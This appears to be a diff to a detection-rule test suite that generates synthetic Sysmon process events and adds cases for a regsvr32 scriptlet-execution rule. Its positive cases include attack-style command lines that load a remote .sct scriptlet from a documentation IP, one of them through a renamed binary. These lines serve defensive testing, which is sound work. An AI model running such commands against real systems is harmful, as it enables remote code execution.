@@ -97,35 +97,35 @@ def proc(
     original: str | None = None,
     user: str = USER,
 ) -> Ev:
-    """Sysmon 1, process creation."""
+    """Sysmon 1, process creation (``original=""``: no OriginalFileName, as before Sysmon 8)."""
     name = image.rsplit("\\", 1)[-1]
-    return Ev(
-        1,
-        {
-            "RuleName": "-",
-            "ProcessGuid": _guid("p", image, command_line),
-            "ProcessId": _pid(image + command_line),
-            "Image": image,
-            "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)",
-            "Description": name,
-            "Product": "Microsoft® Windows® Operating System",
-            "Company": "Microsoft Corporation",
-            "OriginalFileName": original if original is not None else name,
-            "CommandLine": command_line,
-            "CurrentDirectory": HOME,
-            "User": user,
-            "LogonGuid": _guid("logon", user),
-            "LogonId": "0x3e7a21",
-            "TerminalSessionId": 1,
-            "IntegrityLevel": "Medium",
-            "Hashes": _hashes(image),
-            "ParentProcessGuid": _guid("p", parent),
-            "ParentProcessId": _pid(parent),
-            "ParentImage": parent,
-            "ParentCommandLine": parent_command_line if parent_command_line is not None else f'"{parent}"',
-            "ParentUser": user,
-        },
-    )
+    data: dict[str, Any] = {
+        "RuleName": "-",
+        "ProcessGuid": _guid("p", image, command_line),
+        "ProcessId": _pid(image + command_line),
+        "Image": image,
+        "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)",
+        "Description": name,
+        "Product": "Microsoft® Windows® Operating System",
+        "Company": "Microsoft Corporation",
+        "OriginalFileName": original if original is not None else name,
+        "CommandLine": command_line,
+        "CurrentDirectory": HOME,
+        "User": user,
+        "LogonGuid": _guid("logon", user),
+        "LogonId": "0x3e7a21",
+        "TerminalSessionId": 1,
+        "IntegrityLevel": "Medium",
+        "Hashes": _hashes(image),
+        "ParentProcessGuid": _guid("p", parent),
+        "ParentProcessId": _pid(parent),
+        "ParentImage": parent,
+        "ParentCommandLine": parent_command_line if parent_command_line is not None else f'"{parent}"',
+        "ParentUser": user,
+    }
+    if original == "":
+        del data["OriginalFileName"]
+    return Ev(1, data)
 
 
 def net(image: str, dst_ip: str, dst_host: str, dst_port: int = 443) -> Ev:
@@ -255,8 +255,15 @@ def _cases() -> Iterator[RuleCase]:
             proc(REGSVR32, LURE_COMMAND, EXCEL),
             proc(REGSVR32, "regsvr32.exe -s -u -i:C:\\Users\\Public\\cfg.sct scrobj.dll", CMD),
             proc(REGSVR32, "regsvr32 /s /i:https://192.0.2.15/a.sct C:\\Users\\Public\\x.dll", WSCRIPT),
+            proc(
+                "C:\\Users\\Public\\msupd.exe",
+                "msupd.exe /u /s /i:http://192.0.2.15/a.sct .\\msupd.dll",
+                CMD,
+                original="",
+            ),
         ),
         near_misses=(
+            proc("C:\\Tools\\sync.exe", "sync.exe /u /i:C:\\Tools\\sync.ini", CMD, original=""),
             proc(REGSVR32, f"{REGSVR32} /s scrobj.dll", CMD),
             proc(REGSVR32, 'regsvr32.exe /s "C:\\Program Files\\Example Vendor\\plugin.dll"', CMD),
         ),
